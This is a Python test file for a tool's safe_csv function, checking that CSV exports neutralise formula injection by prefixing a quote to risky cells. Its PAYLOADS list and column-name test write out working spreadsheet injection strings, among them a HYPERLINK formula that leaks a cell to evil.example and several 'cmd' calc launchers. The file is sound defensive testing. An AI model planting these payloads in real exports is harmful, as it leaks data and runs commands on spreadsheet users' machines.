"""Every CSV Sweetspot writes is safe to open in a spreadsheet (issue 23.3, OWASP's CSV injection).

A trial note ``=HYPERLINK("http://evil.example/?leak="&A2,"Click")`` reached the trials CSV
as it was: a spreadsheet runs it, and in the demo any visitor downloads another's notes.
"""

from __future__ import annotations

import csv
import io

import numpy as np
import pandas as pd
import pytest

from tuning.views.safe_csv import FORMULA_STARTS, safe_csv

#: One payload per character a spreadsheet reads as the start of a formula.
PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def cells(text: str) -> list[list[str]]:
    """The CSV as a spreadsheet's importer reads it: rows of cells."""
    return list(csv.reader(io.StringIO(text, newline="")))


def test_every_formula_start_is_covered() -> None:
    assert set(PAYLOADS) == set(FORMULA_STARTS)


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=[repr(k) for k in PAYLOADS])
def test_a_text_cell_starting_a_formula_is_prefixed_with_a_quote(payload: str) -> None:
    frame = pd.DataFrame({"number": [1], "note": [payload], "state": ["COMPLETE"]})
    text = safe_csv(frame)
    assert cells(text) == [["number", "note", "state"], ["1", "'" + payload, "COMPLETE"]]
    assert f'"{payload}' not in text  # nowhere does a cell begin with the payload


def test_numbers_stay_numbers_and_plain_text_stays_as_it_is() -> None:
    frame = pd.DataFrame(
        {
            "number": [0, 1],
            "loss": [-0.5, np.nan],
            "lr": [-1e-3, 2.5e-5],
            "pruned": [True, False],
            "activation": ["relu", "tanh"],
            "note": ['a, b and "c"', None],
            "mixed": pd.Series([-3, "-3"], dtype=object),
        }
    )
    rows = cells(safe_csv(frame))
    assert rows[1] == ["0", "-0.5", "-0.001", "True", "relu", 'a, b and "c"', "-3"]
    assert rows[2] == ["1", "", "2.5e-05", "False", "tanh", "", "'-3"]  # text "-3" is text
    raw = safe_csv(frame).splitlines()[1]
    assert raw.startswith("0,-0.5,-0.001,True,") and '"relu"' in raw  # numbers unquoted, text quoted


def test_column_names_are_neutralised_too() -> None:
    frame = pd.DataFrame({"=cmd|' /C calc'!A0": [1], "validation MSE": [2.0]})
    assert cells(safe_csv(frame))[0] == ["'=cmd|' /C calc'!A0", "validation MSE"]


def test_repeated_and_unusual_columns_are_written_whole() -> None:
    frame = pd.DataFrame([["+a", 1, pd.Timestamp("2026-01-02")]], columns=["x", "x", 3])
    assert cells(safe_csv(frame)) == [["x", "x", "3"], ["'+a", "1", "2026-01-02 00:00:00"]]
    assert list(frame.iloc[0]) == ["+a", 1, pd.Timestamp("2026-01-02")]  # the caller's frame is unchanged
